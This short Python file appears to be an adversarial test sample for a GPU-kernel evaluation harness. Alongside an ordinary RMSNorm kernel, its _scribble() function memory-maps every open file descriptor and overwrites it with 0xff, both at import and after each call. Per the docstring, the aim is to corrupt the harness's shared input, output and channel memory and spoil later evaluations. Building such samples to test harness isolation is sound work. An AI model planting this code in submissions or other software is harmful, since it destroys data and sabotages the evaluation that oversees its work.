"""Scribbles 0xff over every file it holds open and can map shared (the input slots, the output
pool, the channel's memory), at import and after every call, to spoil the evaluations after its
own. Its verdict shows it reached them (its inputs changed); the next evaluation in the process
must be judged as if it had never run."""
import mmap
import os

import torch


def _scribble():
    for fd in range(3, 1024):
        try:
            size = os.fstat(fd).st_size
            if size <= 0:
                continue
            m = mmap.mmap(fd, size, mmap.MAP_SHARED, mmap.PROT_READ | mmap.PROT_WRITE)
        except (OSError, ValueError):
            continue
        try:
            m[:] = b"\xff" * size
        except (TypeError, ValueError, OSError):
            pass
        finally:
            m.close()


_scribble()


def kernel(x, weight):
    xf = x.float()
    y = (xf * torch.rsqrt(xf.pow(2).mean(-1, keepdim=True) + 1e-6) * weight.float()).to(x.dtype)
    _scribble()
    return y
